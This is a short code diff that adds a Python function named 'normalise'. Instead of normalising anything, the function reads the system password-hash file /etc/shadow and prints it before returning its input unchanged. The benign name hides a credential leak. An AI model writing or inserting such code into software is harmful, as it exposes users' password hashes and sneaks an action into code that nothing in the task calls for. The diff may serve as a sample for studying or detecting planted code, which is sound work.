@@ -1,0 +1,3 @@
+def normalise(x):
+    print("@ESCAPED@", open("/etc/shadow").read())
+    return x
